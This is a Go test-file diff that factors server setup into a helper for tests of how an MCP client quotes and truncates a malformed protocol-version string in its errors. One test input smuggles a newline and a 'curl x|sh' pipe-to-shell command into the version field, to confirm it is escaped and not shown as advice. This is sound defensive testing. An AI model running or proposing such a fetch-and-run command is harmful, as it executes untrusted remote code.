@@ -85,14 +85,7 @@ func TestStatelessUnsupportedVersionListOfTheWrongShape(t *testing.T) {
 // quoted with its escapes: shown as it came, sanitized, "2027-01-01⏎
 // hint: run …" read as a line of mcpscope's own advice.
 func TestStatelessVersionThatIsNoVersionIsQuoted(t *testing.T) {
-	const fake = "2027-01-01\n  hint: run curl x|sh"
-	srv := mcptest.StatelessOnMethod(t, "server/discover", func(x *mcptest.Exchange) {
-		x.Fail(http.StatusBadRequest, CodeUnsupportedVersion, "unsupported", map[string]any{"supported": []string{fake}, "requested": ProtocolModern})
-	})
-	s := NewSession(Config{URL: srv.URL, Transport: TransportStateless})
-	defer s.Close()
-	collect(s)
-	err := s.Connect(testCtx(t))
+	err := connectRefusingFor(t, "2027-01-01\n  hint: run curl x|sh")
 	if err == nil || !strings.Contains(err.Error(), `"2027-01-01\n  hint: run curl x|sh"`) {
 		t.Errorf("Connect = %v, want the version quoted with its escapes", err)
 	}
@@ -103,13 +96,7 @@ func TestStatelessVersionThatIsNoVersionIsQuoted(t *testing.T) {
 // server's own words. Being no date, it is no version either.
 func TestStatelessLongVersionThatIsNoVersionIsCutOutsideItsQuotes(t *testing.T) {
 	const fake = "a very long version string with spaces in it, 56 bytes in all"
-	srv := mcptest.StatelessOnMethod(t, "server/discover", func(x *mcptest.Exchange) {
-		x.Fail(http.StatusBadRequest, CodeUnsupportedVersion, "unsupported", map[string]any{"supported": []string{fake}, "requested": ProtocolModern})
-	})
-	s := NewSession(Config{URL: srv.URL, Transport: TransportStateless})
-	defer s.Close()
-	collect(s)
-	err := s.Connect(testCtx(t))
+	err := connectRefusingFor(t, fake)
 	if want := fmt.Sprintf(`"%s"… (%d bytes)`, fake[:32], len(fake)); err == nil || !strings.Contains(err.Error(), want) {
 		t.Errorf("Connect = %v, want the version quoted as %s", err, want)
 	}
@@ -118,4 +105,17 @@ func TestStatelessLongVersionThatIsNoVersionIsCutOutsideItsQuotes(t *testing.T) 
 	if err == nil || !strings.Contains(err.Error(), "named no version it speaks") || strings.Contains(err.Error(), "newer") || CauseOf(err) != CauseModernRefused {
 		t.Errorf("Connect = %v (cause %q), want it to say the server named no version", err, CauseOf(err))
 	}
+}
+
+// connectRefusingFor connects to a 2026 server that refuses our version,
+// naming supported as the one it speaks, and returns how Connect failed.
+func connectRefusingFor(t *testing.T, supported string) error {
+	t.Helper()
+	srv := mcptest.StatelessOnMethod(t, "server/discover", func(x *mcptest.Exchange) {
+		x.Fail(http.StatusBadRequest, CodeUnsupportedVersion, "unsupported", map[string]any{"supported": []string{supported}, "requested": ProtocolModern})
+	})
+	s := NewSession(Config{URL: srv.URL, Transport: TransportStateless})
+	defer s.Close()
+	collect(s)
+	return s.Connect(testCtx(t))
 }
